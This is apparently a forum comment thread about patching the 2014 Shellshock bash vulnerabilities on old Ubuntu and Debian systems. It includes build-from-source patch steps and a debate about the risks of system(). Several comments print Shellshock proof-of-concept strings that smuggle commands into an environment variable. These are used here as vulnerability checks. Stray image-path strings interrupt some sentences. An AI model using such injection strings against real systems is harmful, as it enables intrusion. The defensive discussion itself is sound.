The way to fix all of these bugs is to use well-defined, computer-oriented IPC mechanisms where there is a clear distinction between code and data. For example, databasequeries might be constructed by function call instead of string manipulation, which could pack them into a safe TLV format with no chance of malicious query injection. Generating web server content from a different language could be done via a proper FFI or message passing mechanism, rather than CGI scripts.

Here's how to patch Ubuntu 8.04 or anything where you have to build bash from source:

  #assume that your sources are in /src
  cd /src
  wget http://ftp.gnu.org/gnu/bash/bash-4.3.tar.gz
  #download all patches
  for i in $(seq -f "%03g" 0 25); do wget     http://ftp.gnu.org/gnu/bash/bash-4.3-patches/bash43-$i; done
  tar zxvf bash-4.3.tar.gz
  cd bash-4.3
  #apply all patches
  for i in $(seq -f "%03g" 0 25);do patch -p0 < ../bash43-$i; done
  #build and install
  ./configure && make && make install

Not sure if Ubuntu 8.04 with custom built bashwill be upgradable to 10.04??

Or you could just download a bash-static deb from 10.04 (https://launchpad.net/ubuntu/lucid/+package/bash-static) and overwrite /bin/bash. It shouldn't cause any issues when upgrading, though you could back up the original.

8.04 is unsupported, and situations like this justify the effort of upgrading it to the latest LTS.

Enter this PoC in your terminal:

env var='() {(a)=>\' bash -c "echo date"; cat echo

A target patched for CVE-2014-6271 will output the date upon executing that PoC (Proof of Concept):

bash: var: line 1: syntax error near unexpected token `='bash: var: line 1: `'

bash: error importing function definition for `var'

Thu Sep 25 17:52:32 EDT2014

There is a new update (#26) for bash 4.3 which fixes CVE-2014-7169 (the old bash update was still flawed/incomplete as demonstrated above by executing the PoC). So, taking into account what everyone before contributed, the new complete patch code would be:

mkdir src

cd src

wget http://ftp.gnu.org/gnu/bash/bash-4.3.tar.gz

#download all patches

for i in $(seq -f "%03g" 0 26); do wget http://ftp.gnu.org/gnu/bash/bash-4.3-patches/bash43-$i; done

tar zxvf bash-4.3.tar.gz

cd bash-4.3

#apply all patches

for i in $(seq -f "%03g" 0 26);do patch -p0 < ../bash43-$i; done#build and install

sudo ./configure --prefix=/usr --bindir=/bin --sbindir=/sbin --sysconfdir=/etc && sudo make && sudo make install

Once patched for CVE-2014-7169 the previous PoC should not return the date anymore:

bash: var: line 1: syntax error near unexpected token `='

bash: var: line 1: `'

bash: error importing function definition for `var'


cat: echo: No such file or directory

And thanks to all previous contributors!

This sequence failed for me because my Ubuntu 8.04 didn't have patch installed.

I found a source copy at https://launchpad.net/ubuntu/+source/patch/2.5.9-4 and built/installed that first. The resulting fix appears to work (after copying resulting bash to /bin as noted elsewhere).

I had the same problem. I needed to install patch, make and gcc. So I downloaded the iso from http://old-releases.ubuntu.com/releases/hardy/ and then edited /etc/apt/sources.list so my server would look on the cd for the packages. I could then use 'apt-get install' to install the required programs. I also found that the 'do' command was throwing up an error. Rather than work out why I just manually downloaded the 26 patches and then manually applied them as well. Yeah ok I'm a noob but it worked.

I am running Ubuntu 10.10 but patch is not installed. Can someone explain the commands needed to download, build, and install patch as mentioned above. Thanks for any help.

I found out how to install the patch package here:


This won't work; you need

sudo make install

Given the circumstances, a lot ofpeople without much software experience will be reading this message and simply copying and pasting; it's worth getting it right.

On Ubuntu, you'll probably want to ./configure --prefix=/usr/bin . If you install in /usr/local/bin (the default), bash will effectively no longer be updated by apt-get.

That should probably have been ./configure--prefix=/usr --bindir=/bin --sbindir=/sbin --sysconfdir=/etc

Once upon a time, distributions documented their build configurations. Or maybe it's that I used to only use FreeBSD.

That script assumes that it is executed as root. There's indeed a possible problem with /usr/local/bin/bash vs. /bin/bash with Ubuntu update from 8.04 to 10.04 (since Ubuntu 8.04 itself is no longer updateable), thus I asked that question in the end of my post. To mitigate it, one can just add:

  mv /usr/local/bin/bash /bin
as the last line.

I tried this and realized, it installs the binary under /usr/local/bin. you'll need to make a symlink or preferably follow ricilake's advice. if you forget to do this and logout, you may never log back in. Btw, the path to the bash in ubuntu is /bin/bash not /usr/bin/bash

I just wanted to say, "Thanks!"

I successfully patched my 8.04 server and passed the test.

I used sudo ./configure --prefix=/usr --bindir=/bin --sbindir=/sbin --sysconfdir=/etc && sudo make && sudo make install after retrieving and patching the bashbuild files.

Why is my bash version still 4.2.45(1) after this?

    # bash --version
    bash --version
    GNU bash, version 4.2.45(1)-release (x86_64-pc-linux-gnu)
Though it seems the vulnerability got fixed.

Hi, I have tried to follow the instruction given by rtmdivine to patch for CVE-2014-6271 but at the end of the process I still get the date. Any suggestions? Thanks

In Debian Lenny you should also do at the end sudo rm /bin/bash && sudo ln -s /usr/local/bin/bash /bin/bash

need to wget all the patches including #26 to fix the 2nd bug reported. instead why not just wget the whole dir of patches..

wget -r 1 -nH -nd -np http://ftp.gnu.org/gnu/bash/bash-4.3-patches/ && rm \\.sig index.html cdbash-4.3; for i in ../bash43-*; do patch -p0 < $i; done


wtf. this damn form ate my 's and stuff.

try again:

wget -r 1 -nH -nd -np http://ftp.gnu.org/gnu/bash/bash-4.3-patches/ && rm \.sig index.html\*

should be no \'s (or \\s) before the *'s above.

I give up this thing is eating asterisks, cant type em

Does this fix CVE-2014-7169 as well, or just CVE-2014-6271?

It is a very good thing that Debian and Ubuntu use /bin/dash for /bin/sh by default, since /bin/sh is implicitly invoked all over the place (e.g. by system(3)). Distros which use /bin/bash for /bin/sh are gonna have a bad time.

Edit: not implying that Debian and Ubuntu aren't affected too, just that the impact there will be lessened.

I am sure tons of people reading already know this, but I have a habit of saying this everywhere I see system() mentioned anywhere on the internet, just in case somebody reading is tempted to use it: system() is evil, please for the love of god never use it.

If you need to invoke another program use execve() and friends. The versions that end in -p will even check PATH for you. You don't need a shell to evaluate your arguments. Cut out the middle man and pass the arguments directly. It will save you a lot of stupid bugs.

There's nothing wrong with using system anywhere you would happily cover your eyes and paste the string content into a shell. That shouldn't be many places, if anywhere, in production software. It's finefor simple things that would've been shell scripts anyway but for the need to XYZ.

The API for system() is not great, but the execve family of functions are not drop-in replacements since they don't take care of forking, changing the signals, and waiting. As long as you're not passing arguments from outside sources to the command, using system() should be OK.

> the execve family of functions are not drop-in replacements since they don't take care of forking, changing the signals, and waiting.

Maybe not in C, but they are a drop-in replacement in just about every scripting language. Perl, Ruby, Python, all have nice high level calls that mostly mimic system() but use execve underneath—You simply pass system() multiple arguments instead of a single string. `system("")` in your production web app server code is almost certainly incorrect.

Sadly I think PHP still doesn't have this.

> As long as you're not passing arguments from outside sources to the command, using system() should be OK.

Very true, but think about whether you really need a shell to launch your command (are you using any shell features?). If not, why not just launch the command directly?

And in some cases invoking the shell and letting it do its thing is expected, intended and desirable.

Would you execute random Perl or Python code from the internet? No, you wouldn't, even if you tried to sanitize it a thousand ways from Sunday. So why would you do so for the shell?

Defense must use different strategies than offense. An engineer's goal should be to reduce the problem space to something assmall as possible, so he has a better chance at implementing a correct solution. Allowing the shell to be invoked is agood way to explode your exploitable surface area.

Anybody who coded in the 1990s knows to stay away from the shell like the plague, even though the syntax parsing and evaluation components in modern shells have improved considerably. Sadly this particular bug harks back to the bad days, when it was more difficult to tell how certain constructs would be evaluated.

It's not that you can't theoretically do it securely, it's just that you're gratuitously playing with fire--fire that has burned countless engineers in the past. The cost+benefit is so indisputably skewed toward little cost and huge risk that it's unprofessional to suggest otherwise.

The shell shouldn't come anywhere near network-facing software, period.

> are not drop-in replacements since they don't take care of forking, changing the signals, and waiting.

I never claimed it as a drop-in replacement. I think you know the solution to these problems. (I guess maybe someone who naively uses system() might not, so perhaps I need to work on a better spiel.)

> As long as you're not passing arguments from outside sources to the command, using system() should be OK.

Personally I've seen too many bad uses of system() to make that a thing. Maybe they'll not realize it's subject to PATH and that PATH can be untrusted. Maybe they'll not realize they sometimes have asterisks and spaces in a filename. And so forth...

Do you have a source for that? Some articles [0] claim "This affects Debian as well as other Linux distributions."

[0] http://www.csoonline.com/article/2687265/application-securit...

Debian7 doesn't look to be vulnerable by default (if the code snippet can be trusted to work):

    [arch/testbed ~] uname -a
    Linux 3.2.0-4-amd64#1 SMP Debian 3.2.54-2 x86_64 GNU/Linux
    [arch/testbed ~]  env x='() { :;}; echo vulnerable' bash -c "echo this is a test"
    bash: warning: x: ignoring function definition attempt
    bash: error importing function definition for `x'
    this is a test

I have a Debian Squeeze system. Just ran apt-get upgrade and bash wasn't upgraded at all. Just other things like CUPS, exim4, pgsql, ...

Squeeze doesn't have regular security support anymore. A subset of packages on i386 and amd64 are receiving long term security support, but you need to enable the Squeeze LTS repo:


It has not reached the lts mirrors yet, but you can get it from http://incoming.debian.org/debian-buildd/pool/main/b/bash/

As of 7:24 PM GMT the above link has the amd64 .deb for sid.

Still waiting on the i386 .deb for sid.

Your link and this link (https://security-tracker.debian.org/tracker/CVE-2014-6271) useful when considered together.

The i386 .deb is available!

Aaaand now I'm done checkingback on this thread. Have fun, folks! :)

Thanks. dpkg --install'ed the amd64 .deb package, and the vulnerability test passes now.

Make sure security.debian.org is in your apt sources list?

Thanks for the hint folks. My eyes glazed over when OSS people started using packages some 20 odd years ago.

My brain refuses to understand anything more than the beautiful simplicity of a tarball extracted from the / directory. :)


Yes, the printing of “vulnerable” in the 4th line of your code snippet.

You appear to already have the updated package installed.

Last dist-upgrade was about a week ago, all indications point towards the bash released back in Jan 2013. It's fixed in 4.2+dfsg-0.1+deb7u1 and I'm running 4.2+dfsg-0.1

Well, that's very odd because that command reports vulnerable on an unpatched Debian system, but fails with exactly that error message on a patched system.

You're right and my comment was unclear. I'm just saying that the impact on Debian will be less than on distros using /bin/bash for /bin/sh. Of course, even a lessened impact can still be really bad!

Likely meaning that the Debian packages for Bash include the vulnerability

Isn't /bin/sh vulnerable to the same thing? At least it seems for me:

    sh-3.2$ env x='() { :;}; echo vulnerable' /bin/sh -c "echo this is a test"
    this is a test

/bin/sh depends on the system. It might be busybox or a minimal shell (this is common on embedded devices). On some systems like OSX and I think CentOS /bin/sh is just bash. You can check with `/bin/sh --version`.

Ah, thanks. Yes, tested it exactly on OSX and CentOS.

Major impact of this iselevating privileges, both Debian and Ubuntu will be impacted just like any other system.

I don't think anybody is worried about software on the system that is using /bin/bash .vs /bin/sh.

Where is the privilege escalation? I get the same results from running id through tripping the bug as I do from running id directly.

Edited to add: Also no differences in capabilities when I cat /proc/self/status

